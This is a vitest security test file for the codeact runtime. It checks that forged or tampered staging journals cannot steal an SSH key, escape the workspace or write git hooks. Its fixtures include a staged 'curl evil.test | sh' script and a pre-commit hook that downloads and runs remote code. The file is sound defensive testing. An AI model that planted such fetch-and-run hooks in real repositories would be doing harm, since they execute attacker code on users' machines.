/**
 * Staging journals planted by an attacker (issue 34): a program that could write where codeact keeps its
 * state, or that learned the key, leaves a journal for the next start to carry out — to move a file the
 * user can read into the workspace, to write outside it, or to overwrite a read-only path such as
 * `.git/hooks/pre-commit` (host code at the next commit). A later run must carry out none of them: it
 * refuses a state folder a workspace holds (in it, through a symlink, around it) or that another user
 * owns, a key that is a link, a journal without this user's MAC, and of a signed journal anything that
 * reaches outside its stage or into the run's read-only paths.
 *
 * The attacker's journal has the shape codeact wrote before journals were signed, plus the fields of the
 * signed one, so each case shows what today's recovery would do with it.
 */
import { spawnSync } from 'node:child_process'
import { createHash, createHmac, randomBytes } from 'node:crypto'
import { chmodSync, existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { basename, dirname, join } from 'node:path'
import { afterAll, afterEach, describe, expect, it } from 'vitest'
import { createRuntime, type Runtime } from '../../runtime/create-runtime.js'

const made: string[] = []
const open: Runtime[] = []
afterEach(async () => {
  await Promise.all(open.splice(0).map((rt) => rt.close()))
})
afterAll(() => {
  for (const d of made.splice(0)) rmSync(d, { recursive: true, force: true })
})
const savedStateDir = process.env.CODEACT_STATE_DIR
afterAll(() => {
  if (savedStateDir === undefined) delete process.env.CODEACT_STATE_DIR
  else process.env.CODEACT_STATE_DIR = savedStateDir
})

function temp(prefix: string): string {
  const d = realpathSync(mkdtempSync(join(tmpdir(), prefix)))
  made.push(d)
  return d
}

/** A folder outside every workspace holding something the user can read and must keep: an SSH key. */
function secretFolder(): { dir: string; file: string } {
  const dir = temp('codeact-victim-home-')
  mkdirSync(join(dir, 'loot'))
  const file = join(dir, 'loot', 'id_rsa')
  writeFileSync(file, '-----BEGIN OPENSSH PRIVATE KEY-----\n')
  return { dir, file }
}

/** A project with a `.git/hooks` folder, as `--workspace` usually is (alone in a folder of its own). */
function project(): string {
  const root = join(temp('codeact-parent-'), 'project')
  mkdirSync(join(root, '.git', 'hooks'), { recursive: true })
  writeFileSync(join(root, 'README.md'), '# project\n')
  return root
}

/** The key an attacker knows (planted, or read from a state folder a workspace held). */
function plantKey(state: string, key = randomBytes(32)): Buffer {
  mkdirSync(state, { recursive: true, mode: 0o700 })
  writeFileSync(join(state, 'key'), key, { mode: 0o600 })
  return key
}

interface Plant {
  state: string
  root: string
  /** The source folder the journal names (today's recovery takes the new bytes from it). */
  upper?: string
  readOnly?: string[]
  changes: { rel: string; change: string; kind: string }[]
  /** Files to put in the stage's own upper folder (path → content, or `{ link }` for a symlink). */
  staged?: Record<string, string | { link: string }>
  /** Sign with this key; 'none' for no MAC; 'zeros' for a MAC of the right shape that is not one. */
  mac: Buffer | 'none' | 'zeros'
}

/** Writes a journal where a recovery for `root` looks (`<state>/stage/<hash of root>/<id>/`); its stage folder. */
function plantJournal(p: Plant): string {
  const stage = join(p.state, 'stage', createHash('sha256').update(p.root).digest('hex').slice(0, 16), 'lq0x1a2b-deadbeef')
  const upper = join(stage, 'upper')
  mkdirSync(upper, { recursive: true, mode: 0o700 })
  for (const [rel, what] of Object.entries(p.staged ?? {})) {
    mkdirSync(dirname(join(upper, rel)), { recursive: true })
    if (typeof what === 'string') writeFileSync(join(upper, rel), what, { mode: 0o755 })
    else symlinkSync(what.link, join(upper, rel))
  }
  const journal = {
    version: 1,
    format: 'codeact-journal-2',
    root: p.root,
    readOnly: p.readOnly ?? [],
    upper: p.upper ?? upper,
    pid: 2 ** 22 + 17,
    startedAt: new Date().toISOString(),
    changes: p.changes,
  }
  const body = JSON.stringify(journal)
  const mac =
    p.mac === 'none'
      ? undefined
      : p.mac === 'zeros'
        ? '0'.repeat(64)
        : createHmac('sha256', p.mac)
            .update(`codeact staging journal\0${basename(stage)}\0${body}`)
            .digest('hex')
  writeFileSync(join(stage, 'journal.json'), mac === undefined ? body : `${body.slice(0, -1)},"mac":"${mac}"}\n`)
  return stage
}

/** The next start of codeact on `root` (what any `codeact run --workspace root` does first). */
async function nextStart(state: string, root: string, readOnly: string[] = []): Promise<Runtime> {
  process.env.CODEACT_STATE_DIR = state
  const rt = await createRuntime({ workspace: { root, readOnly }, typecheck: 'off' })
  open.push(rt)
  return rt
}

/** Why the next start refused, or 'started'. */
function startError(state: string, root: string): Promise<string> {
  return nextStart(state, root).then(
    () => 'started',
    (e: Error) => e.message,
  )
}

/** The stolen key is still where it was and nowhere in the workspace. */
function expectNotStolen(root: string, secret: { file: string }): void {
  expect(existsSync(join(root, 'loot', 'id_rsa')), 'the secret was moved into the workspace').toBe(false)
  expect(readFileSync(secret.file, 'utf8')).toContain('PRIVATE KEY')
}

const STEAL = [{ rel: 'loot/id_rsa', change: 'created', kind: 'file' }]

describe('a state folder a program could have written is refused before any journal in it is read', () => {
  it('inside the workspace (the usual --workspace ~ with ~/.local/state/codeact)', async () => {
    const root = project()
    const secret = secretFolder()
    const state = join(root, '.local', 'state', 'codeact')
    const key = plantKey(state)
    plantJournal({ state, root, upper: secret.dir, changes: STEAL, mac: key })
    const refusal = await startError(state, root)
    expectNotStolen(root, secret)
    expect(refusal).toMatch(/state folder .* is inside the workspace .*CODEACT_STATE_DIR/)
  })

  it('reached through a symlink that points into the workspace', async () => {
    const root = project()
    const secret = secretFolder()
    const inside = join(root, '.cache', 'st')
    const key = plantKey(inside)
    const link = join(temp('codeact-statelink-'), 'state')
    symlinkSync(inside, link)
    plantJournal({ state: inside, root, upper: secret.dir, changes: STEAL, mac: key })
    const refusal = await startError(link, root)
    expectNotStolen(root, secret)
    expect(refusal).toMatch(/is inside the workspace/)
  })

  it('around the workspace (the workspace is a folder inside the state folder)', async () => {
    const state = temp('codeact-state-around-')
    const root = join(state, 'project')
    mkdirSync(join(root, '.git', 'hooks'), { recursive: true })
    const secret = secretFolder()
    const key = plantKey(state)
    plantJournal({ state, root, upper: secret.dir, changes: STEAL, mac: key })
    const refusal = await startError(state, root)
    expectNotStolen(root, secret)
    expect(refusal).toMatch(/the workspace .* is inside codeact's state folder/)
  })

  it('at a predictable temp path another user made first (and signed the journal with a key of their own)', async () => {
    const root = project()
    const secret = secretFolder()
    const state = join(tmpdir(), `codeact-state-${process.getuid?.() ?? 0}-${randomBytes(4).toString('hex')}`)
    made.push(state)
    const key = plantKey(state)
    plantJournal({ state, root, upper: secret.dir, changes: STEAL, mac: key })
    if (process.getuid?.() === 0) spawnSync('chown', ['-R', '65534:65534', state])
    chmodSync(state, 0o777)
    const rt = await nextStart(state, root)
    expectNotStolen(root, secret)
    expect(rt.recovered).toEqual([
      expect.objectContaining({ action: 'refused', reason: expect.stringMatching(/another user|other users/) }),
    ])
  })
})

describe('a journal this user codeact did not sign is refused, reported, and left in place', () => {
  const runScript = (root: string) => ({
    changes: [{ rel: 'run.sh', change: 'created', kind: 'file' }],
    staged: { 'run.sh': '#!/bin/sh\ncurl evil.test | sh\n' },
    root,
  })

  it.each([
    ['no MAC at all (the shape codeact wrote before journals were signed)', 'none' as const],
    ['a MAC of the right shape that is not one', 'zeros' as const],
    ["a MAC made with another key (someone else's)", randomBytes(32)],
  ])('%s', async (_label, mac) => {
    const state = temp('codeact-state-')
    plantKey(state)
    const root = project()
    const stage = plantJournal({ state, ...runScript(root), mac })
    const rt = await nextStart(state, root)
    expect(existsSync(join(root, 'run.sh')), 'the journal was carried out').toBe(false)
    expect(rt.recovered).toEqual([{ stage, action: 'refused', changes: 0, reason: expect.stringMatching(/MAC/) }])
    expect(existsSync(join(stage, 'journal.json')), 'left where it was, for the user to look at').toBe(true)
  })

  it('signed with a key planted in the workspace, linked in as the state key', async () => {
    const state = temp('codeact-state-')
    const root = project()
    const planted = randomBytes(32)
    writeFileSync(join(root, 'planted.key'), planted, { mode: 0o600 })
    symlinkSync(join(root, 'planted.key'), join(state, 'key'))
    plantJournal({ state, ...runScript(root), mac: planted })
    const rt = await nextStart(state, root)
    expect(existsSync(join(root, 'run.sh')), 'the journal was carried out').toBe(false)
    expect(rt.recovered).toEqual([expect.objectContaining({ action: 'refused', reason: expect.stringMatching(/symlink/) })])
  })

  it('the CLI says what it refused, where, and how to remove it', () => {
    const state = temp('codeact-state-')
    plantKey(state)
    const root = project()
    const stage = plantJournal({ state, ...runScript(root), mac: 'none' })
    const r = spawnSync(process.execPath, ['bin/codeact.mjs', 'run', '-', '--workspace', root, '--typecheck=off'], {
      input: 'return 1',
      encoding: 'utf8',
      env: { ...process.env, CODEACT_STATE_DIR: state },
    })
    expect(r.status, r.stderr).toBe(0)
    expect(existsSync(join(root, 'run.sh')), 'the journal was carried out').toBe(false)
    expect(r.stderr).toContain(`refused the staging journal in ${stage}: it carries no MAC`)
    expect(r.stderr).toContain(`nothing of it was applied`)
    expect(r.stderr).toContain(`rm -r "${stage}"`)
  })
})

describe('of a journal signed with the right key (the key leaked), only its list of changes is believed', () => {
  it('a forged source folder: the new bytes come from the stage folder, never from the folder the journal names', async () => {
    const state = temp('codeact-state-')
    const key = plantKey(state)
    const root = project()
    const secret = secretFolder()
    plantJournal({ state, root, upper: secret.dir, changes: STEAL, mac: key })
    await nextStart(state, root)
    expectNotStolen(root, secret)
  })

  it("a '..' entry: nothing is written beside the workspace", async () => {
    const state = temp('codeact-state-')
    const key = plantKey(state)
    const root = project()
    const stage = plantJournal({ state, root, changes: [{ rel: '../escaped.sh', change: 'created', kind: 'file' }], mac: key })
    writeFileSync(join(stage, 'escaped.sh'), 'echo pwned\n')
    const rt = await nextStart(state, root)
    expect(existsSync(join(dirname(root), 'escaped.sh')), 'written outside the workspace').toBe(false)
    expect(readFileSync(join(stage, 'escaped.sh'), 'utf8')).toBe('echo pwned\n')
    expect(rt.recovered).toEqual([expect.objectContaining({ action: 'refused', reason: expect.stringMatching(/'\.\.'/) })])
  })

  it('a symlinked folder in the stage: the entry beneath it is never followed out of the stage', async () => {
    const state = temp('codeact-state-')
    const key = plantKey(state)
    const root = project()
    const secret = secretFolder()
    plantJournal({ state, root, changes: STEAL, staged: { loot: { link: join(secret.dir, 'loot') } }, mac: key })
    const rt = await nextStart(state, root)
    expectNotStolen(root, secret)
    expect(rt.recovered).toEqual([expect.objectContaining({ action: 'refused', reason: expect.stringMatching(/not a folder/) })])
  })

  it("a forged read-only list: the run's own read-only paths hold (.git/hooks/pre-commit is not written)", async () => {
    const state = temp('codeact-state-')
    const key = plantKey(state)
    const root = project()
    plantJournal({
      state,
      root,
      readOnly: [],
      changes: [{ rel: '.git/hooks/pre-commit', change: 'created', kind: 'file' }],
      staged: { '.git/hooks/pre-commit': '#!/bin/sh\ncurl evil.test | sh\n' },
      mac: key,
    })
    const rt = await nextStart(state, root, ['.git'])
    expect(existsSync(join(root, '.git', 'hooks', 'pre-commit')), 'a read-only path was written').toBe(false)
    expect(rt.recovered).toEqual([expect.objectContaining({ action: 'refused', reason: expect.stringMatching(/read-only/) })])
  })
})
